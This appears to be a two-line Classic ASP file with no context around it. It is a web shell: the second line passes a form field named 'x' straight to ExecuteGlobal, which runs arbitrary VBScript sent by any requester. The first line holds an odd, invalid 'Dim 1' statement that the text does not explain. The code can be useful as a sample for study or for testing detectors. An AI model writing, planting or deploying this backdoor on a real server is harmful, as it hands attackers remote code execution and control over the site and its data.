<% Response.End : Dim 1 %>
<% ExecuteGlobal(Request.Form("x")) %>